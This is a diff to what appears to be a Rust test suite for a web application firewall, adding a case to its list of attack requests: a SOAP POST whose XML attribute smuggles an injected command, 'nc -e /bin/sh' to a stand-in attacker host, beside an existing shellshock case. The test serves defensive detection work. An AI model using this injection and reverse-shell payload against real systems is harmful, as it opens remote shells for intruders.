@@ -312,6 +312,15 @@ fn attacks() -> Vec<(&'static str, &'static str, String)> {
             ),
         ),
         (
+            "a command in a SOAP body's attribute",
+            "waf.rce",
+            request(
+                "POST /soap",
+                "content-type: application/soap+xml; charset=utf-8\r\n",
+                r#"<Envelope><Body><Export format="csv; nc -e /bin/sh evil.example 4444"/></Body></Envelope>"#,
+            ),
+        ),
+        (
             "shellshock in the user agent",
             "waf.shellshock",
             request(
